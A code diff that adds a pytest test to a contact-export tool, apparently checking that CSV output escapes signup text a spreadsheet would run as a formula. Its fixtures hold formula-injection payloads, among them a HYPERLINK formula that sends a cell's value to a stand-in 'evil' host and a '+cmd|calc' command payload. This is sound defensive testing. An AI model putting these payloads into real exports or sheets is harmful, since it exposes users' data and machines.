@@ -132,6 +132,24 @@ def test_export_writes_a_csv_with_one_row_per_contact_and_every_step(cli, servic
         "Zoë", "渡辺 さくら")
 
 
+@pytest.mark.parametrize("backend", ["sqlite"])
+def test_export_quotes_signup_text_a_spreadsheet_would_run_as_a_formula(cli, services, tmp_path):
+    formula = '=HYPERLINK("http://evil/?x="&A1,"click")'
+    enroll_now(services, [signup_request(email="=1+2@example.com", first_name=formula, business_name="@SUM(A1:A2)"),
+                          signup_request(email="plain@example.com", first_name="-2+3", business_name="+cmd|calc")])
+    target = tmp_path / "contacts.csv"
+
+    result = cli("export", "-o", str(target))
+
+    assert result.returncode == 0, result.stderr
+    with open(target, newline="", encoding="utf-8") as fh:
+        cells = {r["email"]: (r["first_name"], r["business_name"], r["segment"]) for r in csv.DictReader(fh)}
+    assert cells == {
+        "'=1+2@example.com": ("'" + formula, "'@SUM(A1:A2)", "OPTIMIZE"),
+        "plain@example.com": ("'-2+3", "'+cmd|calc", "OPTIMIZE"),
+    }
+
+
 def test_db_upgrade_on_an_empty_database_is_idempotent(database_url, tmp_path):
     first = run_cli("db", "upgrade", database_url=database_url, data_dir=tmp_path)
     second = run_cli("db", "upgrade", database_url=database_url, data_dir=tmp_path)
